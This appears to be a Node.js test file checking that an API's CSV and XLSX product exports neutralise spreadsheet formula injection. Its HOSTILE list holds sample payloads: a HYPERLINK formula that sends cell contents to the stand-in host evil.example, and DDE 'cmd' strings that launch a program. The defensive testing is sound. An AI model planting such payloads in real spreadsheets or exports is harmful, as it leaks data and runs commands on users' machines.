import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { createTestApp, type TestApp } from '../../helpers/app.ts';
import { dialects } from '../../helpers/databases.ts';
import { readCsv, readXlsx } from './readers.ts';

/**
 * Product names a spreadsheet would run as formulas (OWASP "CSV Injection"), and what the CSV must carry:
 * a leading `'`, which spreadsheets take as "text". The quoting of RFC 4180 still applies after it (CR).
 */
const HOSTILE: Array<[string, string]> = [
  ['=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', `'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")`],
  ['+1+cmd|\' /C calc\'!A0', `'+1+cmd|' /C calc'!A0`],
  ['-2+3+cmd|\' /C calc\'!A0', `'-2+3+cmd|' /C calc'!A0`],
  ['@SUM(1+9)*cmd|\' /C calc\'!A0', `'@SUM(1+9)*cmd|' /C calc'!A0`],
  ['\t=1+1', `'\t=1+1`],
  ['\r=1+1', `'\r=1+1`],
  ['+420 624 526 162', `'+420 624 526 162`],
];
/** Text that is left alone: a plain signed number cannot be a formula, and the rest does not start like one. */
const HARMLESS = ['-123', '+4.50', '-1,234.50', ' =1+1', 'A=1', 'Plain name'];

for (const dialect of await dialects()) {
  describe(`CSV injection (${dialect})`, () => {
    let t: TestApp;
    let token: string;
    const names = [...HOSTILE.map(([raw]) => raw), ...HARMLESS];

    before(async () => {
      t = await createTestApp(dialect, { seed: { products: names.length } });
      ({ token } = await t.credential(['products:read']));
      const db = t.database.store.db;
      for (const [i, name] of names.entries()) await db.updateTable('products').set({ name, name_lc: name.toLowerCase() }).where('id', '=', i + 1).execute();
      // Numbers that are negative stay numbers: a price, a stock, a weight; and an article number that is a negative number stays as it is.
      await db.updateTable('products').set({ price: '-12.50', stock: -5, weight: -1.5, article_number: '-123', article_number_lc: '-123' }).where('id', '=', 1).execute();
    });
    after(() => t.close());

    const get = (query: string) => t.get(`/api/v2/products?sort=id${query}`, token);

    it('neutralises text cells a spreadsheet would run as formulas, in whole exports and pages alike; numbers stay numbers', async () => {
      for (const query of ['&format=csv', '&format=csv&limit=100', '&format=csv&delimiter=%09']) {
        const res = await get(query);
        assert.equal(res.statusCode, 200, res.body);
        const [header, ...rows] = readCsv(res.rawPayload, { delimiter: query.endsWith('%09') ? '\t' : ',' });
        const column = (name: string) => rows.map((r) => r[header.indexOf(name)]);
        assert.deepEqual(column('name'), [...HOSTILE.map(([, neutral]) => neutral), ...HARMLESS], query);
        const first = Object.fromEntries(header.map((h, i) => [h, rows[0][i]]));
        assert.deepEqual([first.price, first.stock, first.weight, first.articleNumber], ['-12.50', '-5', '-1.5', '-123'], `${query}: negative numbers are written as numbers`);
      }
    });

    it('escapeFormulas=false writes every value exactly as JSON has it', async () => {
      const res = await get('&format=csv&escapeFormulas=false');
      assert.equal(res.statusCode, 200, res.body);
      const [header, ...rows] = readCsv(res.rawPayload);
      assert.deepEqual(rows.map((r) => r[header.indexOf('name')]), names);
      assert.equal((await get('&format=csv&escapeFormulas=maybe')).statusCode, 400);
    });

    it('XLSX holds such text as typed text cells (never formulas), unchanged, and negative numbers as numbers', async () => {
      const res = await get('&format=xlsx');
      assert.equal(res.statusCode, 200, res.body);
      const sheet = readXlsx(res.rawPayload);
      const [header, ...rows] = sheet.rows as unknown[][];
      const nameColumn = String.fromCharCode(65 + header.indexOf('name'));
      names.forEach((name, i) => {
        const cell = sheet.cells[`${nameColumn}${i + 2}`] as { t: string; v: unknown; f?: string };
        assert.equal(cell.t, 's', `${JSON.stringify(name)} is a text cell`);
        assert.equal(cell.f, undefined, `${JSON.stringify(name)} is no formula`);
        assert.equal(cell.v, name);
      });
      const first = Object.fromEntries(header.map((h, i) => [h, rows[0][i]]));
      assert.deepEqual([first.price, first.stock, first.weight, first.articleNumber], [-12.5, -5, -1.5, '-123']);
      assert.doesNotMatch(sheet.part('xl/worksheets/sheet1.xml'), /<f>|<f /, 'the sheet holds no formula at all');
    });
  });
}
